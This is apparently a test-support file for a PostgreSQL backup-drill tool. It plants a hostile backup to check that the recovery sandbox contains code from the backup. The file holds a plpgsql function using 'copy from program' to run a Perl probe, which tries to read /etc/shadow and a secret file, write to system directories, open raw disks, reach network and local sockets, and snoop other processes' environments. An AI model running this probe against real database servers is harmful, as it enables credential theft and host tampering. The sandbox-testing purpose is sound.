import { chmod, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { defineCheck, z, type CheckContext, type Plugin } from '../../../core/index.ts';
import type { CheckConfiguration, Configured } from '../../../core/config/configuration.ts';
import type { SandboxDefinition } from '../../../core/contracts/sandbox.ts';
import { execa } from 'execa';
import { basebackup } from '../../../plugins/sources/basebackup/index.ts';
import { cachedBackup, copyOfBackup } from '../../support/cluster.ts';
import { drillWith, planned, type Drilled } from '../../support/drill.ts';

export const sentinel = 'pgproof-sentinel-4711';

/** What code of the backup does that runs in the recovered server: it tries each thing and tells how it went. */
const program = String.raw`
use IO::Socket::INET; use Socket;
my ($secret, $backup, $port, $socket, $abstract, $mark) = @ARGV;
sub say_it { my ($what, $how) = @_; $how =~ s/[\s\\]+/ /g; print "$what=$how\n" }
sub reads { open(my $file, "<", $_[0]) or return "$!"; my $line = <$file>; defined $line ? "read" : "empty" }
sub slurp { open(my $file, "<", $_[0]) or return ""; local $/; my $all = <$file>; defined $all ? $all : "" }
sub lists { opendir(my $directory, $_[0]) ? "listed" : "$!" }
sub writes { open(my $file, ">", $_[0]) or return "$!"; close $file; unlink $_[0]; "written" }
sub connects { my ($to) = @_; socket(my $s, PF_UNIX, SOCK_STREAM, 0) or return "$!"; connect($s, $to) ? "connected" : "$!" }
say_it(uid => $>);
open(my $status, "<", "/proc/self/status");
for (<$status>) { say_it($1 => $2) if /^(CapPrm|CapEff|CapBnd|NoNewPrivs):\s*(\S+)/ }
say_it(shadow => reads("/etc/shadow"));
say_it(root => lists("/root"));
say_it(home => lists("/home"));
say_it(secret => reads($secret));
say_it(backup => writes("$backup/written"));
say_it(usr => writes("/usr/written"));
say_it(etc => writes("/etc/written"));
say_it(device => sysopen(my $disk, "/dev/sda", 0) || sysopen($disk, "/dev/vda", 0) || sysopen($disk, "/dev/mem", 0) ? "opened" : "$!");
say_it(made => -e "/dev/null" && system("mknod own c 1 3 2>/dev/null") == 0 ? "made" : "refused");
say_it(tcp => IO::Socket::INET->new(PeerAddr => "127.0.0.1:$port", Timeout => 3) ? "connected" : "$!");
say_it(out => IO::Socket::INET->new(PeerAddr => "192.0.2.1:80", Timeout => 3) ? "connected" : "$!");
say_it(socket => connects(pack_sockaddr_un($socket)));
say_it(abstract => connects(pack_sockaddr_un("\0$abstract")));
sub about { my ($name, $file) = @_; grep { slurp("$_/$file") =~ /$name/ } grep { $_ ne "/proc/$$" } glob("/proc/[0-9]*") }
say_it(neighbours => scalar(about($mark, "cmdline")));
say_it(environments => scalar(about("pgproof-sentine[l]", "environ")));
say_it(own => slurp("/proc/self/environ") =~ /pgproof-sentine[l]/ ? "told" : "clean");
my @open = grep { defined && m{^/} && !m{^/dev/null} } map { readlink } glob("/proc/self/fd/*");
say_it(descriptors => join(" ", grep { !m{/(data|log)/} && !m{^/proc/} } @open) || "none");
my ($core) = map { /^Max core file size\s+(\d+)/ } do { open(my $l, "<", "/proc/self/limits"); <$l> };
say_it(core => $core);
say_it(sandbox => writes("../sandbox/written"));
say_it(logdir => rename("../log", "../log.moved") ? "moved" : "$!");
say_it(log => writes("../log/server.log"));
say_it(original => reads("../original-configuration/postgresql.conf"));
`.trim();

const sql = `create function public.attack(arguments text) returns setof text language plpgsql as $attack$
begin
  create temp table loot (line text);
  execute pg_catalog.format('copy loot from program %L', $program$perl -e '${program}' $program$ || arguments);
  return query select line from loot;
end $attack$`;

/** A real backup whose database holds the code. */
export const hostileBackup = () =>
  cachedBackup(15, { from: 'primary', customers: 1, load: false, compress: 'none', sql });

/** Things of the host that code in a backup would like to reach. */
export interface Host extends AsyncDisposable {
  /** The hostile backup, in a directory that everybody may write to. */
  readonly backup: string;
  readonly secret: string;
  readonly port: number;
  readonly socket: string;
  readonly abstract: string;
}

/** A secret that everybody may read, and listeners that let everybody in. */
export async function openHost(): Promise<Host> {
  const directory = await mkdtemp(join(tmpdir(), 'pgproof-host-'));
  await chmod(directory, 0o755);
  const secret = join(directory, 'secret');
  await writeFile(secret, `${sentinel}\n`);
  const backup = await copyOfBackup(await hostileBackup(), join(directory, 'backup'));
  await chmod(backup, 0o777);
  const neighbour = execa('sleep', ['600'], { argv0: 'pgproof-neighbour', reject: false, stdio: 'ignore' });
  const socket = join(directory, 'socket');
  const abstract = `pgproof-abstract-${process.pid}`;
  const servers: Server[] = [];
  const listen = async (where: object) => {
    const server = createServer((client) => client.end());
    servers.push(server);
    await new Promise<void>((resolve) => {
      server.listen(where, resolve);
    });
    return server.address();
  };
  await listen({ path: socket });
  await chmod(socket, 0o777);
  await listen({ path: `\0${abstract}` });
  const address = await listen({ port: 0, host: '127.0.0.1' });
  const port = typeof address === 'object' && address !== null ? address.port : 0;
  return {
    backup,
    secret,
    port,
    socket,
    abstract,
    async [Symbol.asyncDispose]() {
      for (const server of servers) server.close();
      neighbour.kill();
      await neighbour;
      await rm(directory, { recursive: true });
    },
  };
}

type Sandbox = Configured<SandboxDefinition>;
const only = (sandbox: Sandbox) => ({ sandbox: { automatic: false, candidates: [sandbox] } });

/** A drill of a hostile backup in this sandbox, with a check that runs these statements on it. */
export async function drillHostile(
  sandbox: Sandbox,
  directory: string,
  statements: (context: CheckContext) => Promise<void>,
  { before = [], plugins = [] }: { before?: readonly CheckConfiguration[]; plugins?: readonly Plugin[] } = {},
): Promise<Drilled> {
  const check = defineCheck({
    name: 'hostile',
    summary: 'lets code of the backup run',
    options: z.object({ database: z.string() }),
    needs: { readWrite: true },
    async run(context) {
      await statements(context);
      return context.pass('it ran');
    },
  });
  return drillWith(plugins, {
    checks: [...before, planned(check)],
    backup: { source: { definition: basebackup, options: { path: directory } } },
    configuration: only(sandbox),
  });
}

/** Attacks the host, and returns how each attempt ended. */
export async function attack(sandbox: Sandbox, host: Host, inside: string): Promise<Readonly<Record<string, string>>> {
  const loot: Record<string, string> = {};
  const names = [host.secret, inside, host.port, host.socket, host.abstract, 'pgproof-neighbou[r]'].join(' ');
  process.env['PGPROOF_TEST_SECRET'] = sentinel;
  try {
    const { drill } = await drillHostile(sandbox, host.backup, async ({ query }) => {
      for (const { line } of await query<{ line: string }>('select public.attack($1) as line', [names])) {
        const [what = '', ...how] = line.split('=');
        loot[what] = how.join('=');
      }
    });
    if (drill.verdict !== 'proven') throw new Error(JSON.stringify(drill));
  } finally {
    delete process.env['PGPROOF_TEST_SECRET'];
  }
  return loot;
}
